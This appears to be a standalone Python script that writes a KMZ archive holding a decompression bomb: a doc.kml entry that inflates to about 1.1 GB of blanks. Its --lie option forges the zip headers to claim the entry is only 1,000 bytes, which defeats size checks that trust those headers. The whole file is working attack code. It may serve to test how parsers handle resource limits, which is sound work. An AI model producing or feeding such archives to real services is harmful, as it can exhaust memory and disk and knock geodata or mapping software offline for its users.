#!/usr/bin/env python3
"""Writes a KMZ whose doc.kml inflates to 1.1 GB of blanks inside <kml>.
With --lie its headers claim 1,000 bytes. Usage: make_kmz_bomb.py OUT [--lie]"""
import struct
import sys
import zlib

out, lie = sys.argv[1], "--lie" in sys.argv[2:]
head, tail, blanks = b"<kml>", b"</kml>", b" " * (1 << 20)
pack = zlib.compressobj(9, zlib.DEFLATED, -15)
crc, parts = zlib.crc32(head), [pack.compress(head)]
for _ in range(1100):
    crc = zlib.crc32(blanks, crc)
    parts.append(pack.compress(blanks))
crc = zlib.crc32(tail, crc)
parts += [pack.compress(tail), pack.flush()]
data = b"".join(parts)
size = 1000 if lie else len(head) + 1100 * len(blanks) + len(tail)
name = b"doc.kml"
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0) + name
central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size,
                      len(name), 0, 0, 0, 0, 0, 0) + name
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
with open(out, "wb") as f:
    f.write(local + data + central + end)
